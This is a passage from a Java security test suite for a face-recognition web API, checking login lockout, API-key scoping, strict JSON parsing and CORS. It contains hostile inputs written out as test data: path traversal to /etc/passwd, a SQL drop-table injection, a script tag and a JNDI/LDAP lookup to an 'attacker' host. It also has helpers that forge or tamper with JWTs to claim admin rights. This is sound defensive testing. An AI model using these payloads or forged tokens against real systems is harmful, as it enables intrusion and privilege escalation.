        assertProblem(keyOfTheKey.getText("/api/v1/galleries"), 401, "UNAUTHENTICATED", "and the key it made");

        assertThat(patchUser(ownerId, "{\"enabled\":true}").statusCode()).isEqualTo(200);
        assertThat(key.getText("/api/v1/galleries").statusCode())
                .as("the owner enabled again: the key works within the owner's role")
                .isEqualTo(200);
        assertProblem(key.getText("/api/v1/users"), 403, "FORBIDDEN", "still no more than the owner");
    }

    @Test
    void bruteForceLocksTheAccountOutEvenForTheRightPassword() throws Exception {
        register("target", "VIEWER");
        for (int i = 0; i < 5; i++) {
            assertProblem(
                    TestHttp.anonymous(port)
                            .postJson(
                                    "/api/v1/auth/login", "{\"username\":\"target\",\"password\":\"guess-" + i + "\"}"),
                    401,
                    "UNAUTHENTICATED",
                    "guess " + i);
        }
        HttpResponse<String> locked = TestHttp.anonymous(port)
                .postJson("/api/v1/auth/login", "{\"username\":\"target\",\"password\":\"" + PASSWORD + "\"}");
        assertProblem(locked, 429, "RATE_LIMITED", "locked");
        assertThat(locked.headers().firstValue("Retry-After")).contains("900");
    }

    @Test
    void failedSignInsFromOneAddressDoNotLockTheAdministratorOutElsewhere() throws Exception {
        String stranger = "198.51.100.7";
        for (int i = 0; i < 6; i++) {
            assertProblem(
                    signInFrom(stranger, TestHttp.ADMIN, "guess-" + i),
                    i < 5 ? 401 : 429,
                    i < 5 ? "UNAUTHENTICATED" : "RATE_LIMITED",
                    "guess " + i);
        }
        HttpResponse<String> administrator = signInFrom("203.0.113.9", TestHttp.ADMIN, TestHttp.ADMIN_PASSWORD);
        assertThat(administrator.statusCode()).as(administrator.body()).isEqualTo(200);
        HttpResponse<String> throttled = signInFrom(stranger, TestHttp.ADMIN, TestHttp.ADMIN_PASSWORD);
        assertProblem(throttled, 429, "RATE_LIMITED", "the guessing address, even with the right password");
        assertThat(throttled.headers().firstValue("Retry-After")).contains("900");
    }

    @Test
    void failedSignInsFromOneAddressOnManyAccountsLockThatAddressOut() throws Exception {
        String sprayer = "198.51.100.20";
        for (int i = 0; i < 20; i++) {
            assertProblem(signInFrom(sprayer, "nobody-" + i, "Password-" + i), 401, "UNAUTHENTICATED", "guess " + i);
        }
        assertProblem(signInFrom(sprayer, "viewer", PASSWORD), 429, "RATE_LIMITED", "the address is locked out");
        assertThat(signInFrom("198.51.100.21", "viewer", PASSWORD).statusCode())
                .as("another address")
                .isEqualTo(200);
    }

    @Test
    void failuresOnOneAccountFromManyAddressesCloseItToNewAddressesOnly() throws Exception {
        register("besieged", "VIEWER");
        assertThat(TestHttp.signIn(port, "besieged", PASSWORD))
                .as("this address has signed in before")
                .isNotBlank();
        for (int i = 0; i < ACCOUNT_FAILURES; i++) {
            assertProblem(
                    signInFrom("192.0.2." + (i / 4 + 1), "besieged", "guess-" + i),
                    401,
                    "UNAUTHENTICATED",
                    "guess " + i);
        }
        assertProblem(
                signInFrom("203.0.113.77", "besieged", PASSWORD), 429, "RATE_LIMITED", "an address new to the account");
        assertThat(TestHttp.signIn(port, "besieged", PASSWORD))
                .as("an address that signed in to the account before")
                .isNotBlank();
    }

    @Test
    void anApiKeyWorksWithinItsRoleAndStopsAtOnceWhenRevoked() throws Exception {
        HttpResponse<String> created = admin.postJson("/api/v1/api-keys", "{\"name\":\"ci\",\"role\":\"OPERATOR\"}");
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        assertThat(created.headers().firstValue("Cache-Control"))
                .hasValueSatisfying(v -> assertThat(v).contains("no-store"));
        JsonNode body = JSON.readTree(created.body());
        String key = body.get("key").asString();
        String id = body.get("apiKey").get("id").asString();
        TestHttp client = TestHttp.withHeader(port, "X-API-Key", key);
        assertThat(client.getText("/api/v1/galleries").statusCode()).isEqualTo(200);
        assertProblem(client.getText("/api/v1/api-keys"), 403, "FORBIDDEN", "operator key on admin endpoint");
        assertThat(admin.getText("/api/v1/api-keys").body()).contains(id).doesNotContain(key);

        assertThat(admin.call("DELETE", "/api/v1/api-keys/" + id).statusCode()).isEqualTo(204);
        assertProblem(client.getText("/api/v1/galleries"), 401, "UNAUTHENTICATED", "revoked key");
        assertProblem(
                TestHttp.anonymous(port).getText("/api/v1/galleries?api_key=" + key),
                400,
                "INVALID_REQUEST",
                "key in the URL");
        assertProblem(
                TestHttp.withHeader(port, "X-API-Key", "frk_0123456789ab.forged")
                        .getText("/api/v1/galleries"),
                401,
                "UNAUTHENTICATED",
                "forged key");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../etc/passwd",
                "x'; drop table galleries; --",
                "<script>alert(1)</script>",
                "${jndi:ldap://attacker/a}",
                "%00%2e%2e%2f"
            })
    void hostileNamesAreStoredVerbatimOrRefusedAndChangeNothing(String hostile) throws Exception {
        HttpResponse<String> gallery =
                admin.postJson("/api/v1/galleries", "{\"name\":" + JSON.writeValueAsString(hostile) + "}");
        assertThat(gallery.statusCode()).as(gallery.body()).isIn(201, 400);
        if (gallery.statusCode() == 201) {
            String id = JSON.readTree(gallery.body()).get("id").asString();
            assertThat(JSON.readTree(admin.getText("/api/v1/galleries/" + id).body())
                            .get("name")
                            .asString())
                    .isEqualTo(hostile);
            HttpResponse<String> person = admin.postJson(
                    "/api/v1/persons",
                    "{\"name\":" + JSON.writeValueAsString(hostile) + ",\"galleryId\":\"" + id
                            + "\",\"metadata\":{\"note\":" + JSON.writeValueAsString(hostile) + "}}");
            assertThat(person.statusCode()).as(person.body()).isEqualTo(201);
        }
        String encoded = java.net.URLEncoder.encode(hostile, StandardCharsets.UTF_8);
        for (String path : List.of(
                "/api/v1/persons?galleryId=" + encoded,
                "/api/v1/persons?name=" + encoded,
                "/api/v1/galleries/" + encoded,
                "/api/v1/persons/" + UUID.randomUUID() + "/faces/" + encoded + "/image")) {
            HttpResponse<String> response = admin.getText(path);
            assertThat(response.statusCode()).as(path + " " + response.body()).isBetween(200, 499);
            assertThat(response.body()).doesNotContain("Exception").doesNotContain("at dev.facerec");
        }
        assertThat(admin.getText("/api/v1/galleries").statusCode())
                .as("the table is still there")
                .isEqualTo(200);
    }

    /**
     * JSON bodies are read strictly on every JSON endpoint: each of these got a guess (the last of two keys, an enum
     * by its index, a trimmed or coerced value) and is now a 400 naming the field. The account they aim at keeps its
     * role.
     */
    @ParameterizedTest(name = "{0} {1} {2}")
    @CsvSource(
            delimiter = '|',
            value = {
                "POST  | /api/v1/api-keys                | {\"name\":\"k\",\"role\":1}                          | role",
                "POST  | /api/v1/api-keys                | {\"name\":\"k\",\"role\":\"1\"}                      | role",
                "POST  | /api/v1/api-keys                | {\"name\":\"k\",\"role\":\"ADMIN \"}                 | role",
                "POST  | /api/v1/api-keys                | {\"name\":\"k\",\"role\":\"admin\"}                  | role",
                "POST  | /api/v1/api-keys                | {\"name\":\"k\",\"role\":\"VIEWER\",\"role\":\"ADMIN\"} | role",
                "POST  | /api/v1/api-keys                | {\"name\":7,\"role\":\"VIEWER\"}                       | name",
                "PATCH | /api/v1/users/{target}          | {\"role\":2}                                         | role",
                "PATCH | /api/v1/users/{target}          | {\"role\":\"ADMIN \"}                                  | role",
                "PATCH | /api/v1/users/{target}          | {\"enabled\":\"false\"}                                 | enabled",
                "PATCH | /api/v1/users/{target}          | {\"enabled\":0}                                      | enabled",
                "POST  | /api/v1/auth/register           | {\"username\":\"json-new\",\"password\":\"Long-Passphrase-For-Tests-2026\",\"role\":0} | role",
                "POST  | /api/v1/auth/login              | {\"username\":\"json-nobody\",\"password\":\"a\",\"password\":\"b\"} | password",
                "POST  | /api/v1/auth/login              | {\"username\":123,\"password\":\"a\"}                  | username",
                "POST  | /api/v1/galleries               | {\"name\":\"a\",\"name\":\"b\"}                        | name",
                "POST  | /api/v1/galleries               | {\"name\":123}                                       | name",
                "POST  | /api/v1/galleries               | {\"name\":\"g\",\"retentionDays\":\"30\"}              | retentionDays",
                "POST  | /api/v1/galleries               | {\"name\":\"g\",\"retentionDays\":30.5}                | retentionDays",
                "PUT   | /api/v1/galleries/{any}/access  | {\"principals\":[\"alice\",1]}                         | principals[1]",
                "POST  | /api/v1/persons                 | {\"name\":\"p\",\"galleryId\":\"{any}\",\"metadata\":{\"k\":1,\"k\":2}} | metadata.k",
                "POST  | /api/v1/persons                 | {\"name\":\"p\",\"galleryId\":12}                      | galleryId",
            })
    void jsonBodiesAreStrictAndARefusalNamesTheField(String method, String path, String json, String field)
            throws Exception {
        String target = register("json-target-" + UUID.randomUUID().toString().substring(0, 8), "VIEWER");
        String any = UUID.randomUUID().toString();
        HttpResponse<String> response = admin.send(java.net.http.HttpRequest.newBuilder(
                        admin.uri(path.replace("{target}", target).replace("{any}", any)))
                .header("Content-Type", "application/json")
                .method(method, java.net.http.HttpRequest.BodyPublishers.ofString(json.replace("{any}", any)))
                .build());
        assertProblem(response, 400, "INVALID_REQUEST", method + " " + path + " " + json);
        JsonNode problem = JSON.readTree(response.body());
        assertThat(problem.get("details").get("field").asString()).isEqualTo(field);
        assertThat(problem.get("detail").asString())
                .contains(field)
                .doesNotContain("tools.jackson")
                .doesNotContain("dev.facerec");
        JsonNode account =
                JSON.readTree(admin.getText("/api/v1/users/" + target).body());
        assertThat(account.get("role").asString()).isEqualTo("VIEWER");
        assertThat(account.get("enabled").asBoolean()).isTrue();
    }

    @Test
    void corsIsClosedByDefault() throws Exception {
        HttpResponse<String> preflight = admin.send(java.net.http.HttpRequest.newBuilder(admin.uri("/api/v1/galleries"))
                .header("Origin", "https://evil.example")
                .header("Access-Control-Request-Method", "GET")
                .method("OPTIONS", java.net.http.HttpRequest.BodyPublishers.noBody())
                .build());
        assertThat(preflight.headers().firstValue("Access-Control-Allow-Origin"))
                .isEmpty();
    }

    private HttpResponse<String> signInFrom(String address, String username, String password) throws Exception {
        return TestHttp.withHeader(port, "X-Forwarded-For", address)
                .postJson(
                        "/api/v1/auth/login", "{\"username\":\"" + username + "\",\"password\":\"" + password + "\"}");
    }

    private HttpResponse<String> patchUser(String id, String json) throws Exception {
        return admin.send(java.net.http.HttpRequest.newBuilder(admin.uri("/api/v1/users/" + id))
                .header("Content-Type", "application/json")
                .method("PATCH", java.net.http.HttpRequest.BodyPublishers.ofString(json))
                .build());
    }

    interface Step<T> {
        T run() throws Exception;
    }

    interface Preparation {
        void run() throws Exception;
    }

    /**
     * Runs {@code steps} until they begin and end within one second of the clock (the server's: same machine), after
     * {@code prepare} each time: a token issued in that second then meets a change in the same second, which whole-
     * second timestamps ({@code iat}) cannot tell apart. On a machine too slow to fit them in a second, the last run's
     * result: what the test asserts must hold either way.
     */
    private static <T> T inOneSecond(Preparation prepare, Step<T> steps) throws Exception {
        T result = null;
        for (int attempt = 0; attempt < 5; attempt++) {
            prepare.run();
            Thread.sleep(1_000 - System.currentTimeMillis() % 1_000);
            long second = System.currentTimeMillis() / 1_000;
            result = steps.run();
            if (System.currentTimeMillis() / 1_000 == second) {
                return result;
            }
        }
        return result;
    }

    private JsonNode login(String username, String password) throws Exception {
        HttpResponse<String> response = TestHttp.anonymous(port)
                .postJson(
                        "/api/v1/auth/login", "{\"username\":\"" + username + "\",\"password\":\"" + password + "\"}");
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        assertThat(response.headers().firstValue("Cache-Control"))
                .hasValueSatisfying(v -> assertThat(v).contains("no-store"));
        return JSON.readTree(response.body());
    }

    private static void assertProblem(HttpResponse<String> response, int status, String code, String what) {
        assertThat(response.statusCode()).as(what + ": " + response.body()).isEqualTo(status);
        assertThat(response.headers().firstValue("Content-Type"))
                .as(what)
                .hasValueSatisfying(type -> assertThat(type).startsWith("application/problem+json"));
        JsonNode body = JSON.readTree(response.body());
        assertThat(body.get("code").asString()).as(what).isEqualTo(code);
        assertThat(body.get("requestId")).as(what).isNotNull();
        assertThat(body.get("detail").asString()).as(what).isNotBlank();
    }

    /**
     * Claims an admin token of the built-in issuer would carry, for the first account (the administrator), its
     * credentials stamp read from a real token of it.
     */
    private JWTClaimsSet claims(UnaryOperator<JWTClaimsSet.Builder> change) throws Exception {
        JWTClaimsSet real = SignedJWT.parse(TestHttp.signIn(port, TestHttp.ADMIN, TestHttp.ADMIN_PASSWORD))
                .getJWTClaimsSet();
        Instant now = Instant.now();
        return change.apply(new JWTClaimsSet.Builder()
                        .issuer("facerec")
                        .audience("facerec-api")
                        .subject(real.getSubject())
                        .jwtID(UUID.randomUUID().toString())
                        .issueTime(Date.from(now))
                        .notBeforeTime(Date.from(now))
                        .expirationTime(Date.from(now.plusSeconds(600)))
                        .claim("roles", List.of("ADMIN"))
                        .claim("credentials_stamp", real.getStringClaim("credentials_stamp")))
                .build();
    }

    private static String hs256(JWTClaimsSet claims, String secret) throws Exception {
        SignedJWT jwt = new SignedJWT(
                new JWSHeader.Builder(JWSAlgorithm.HS256)
                        .type(JOSEObjectType.JWT)
                        .build(),
                claims);
        jwt.sign(new MACSigner(secret.getBytes(StandardCharsets.UTF_8)));
        return jwt.serialize();
    }

    private static String rs256(JWTClaimsSet claims) throws Exception {
        RSAKey key = new RSAKeyGenerator(2048).generate();
        SignedJWT jwt = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.RS256).build(), claims);
        jwt.sign(new RSASSASigner(key));
        return jwt.serialize();
    }

    private static String unsigned(JWTClaimsSet claims) {
        Base64.Encoder url = Base64.getUrlEncoder().withoutPadding();
        return url.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8)) + "."
                + url.encodeToString(claims.toString().getBytes(StandardCharsets.UTF_8)) + ".";
    }

    /** The viewer's real token with its payload changed to claim ADMIN; the signature is the original one. */
    private static String tampered(String token) {
        String[] parts = token.split("\\.");
        String payload = new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8)
                .replace("\"VIEWER\"", "\"ADMIN\"");
        assertThat(payload).contains("\"ADMIN\"");
        return parts[0] + "."
                + Base64.getUrlEncoder().withoutPadding().encodeToString(payload.getBytes(StandardCharsets.UTF_8)) + "."
                + parts[2];
    }
}
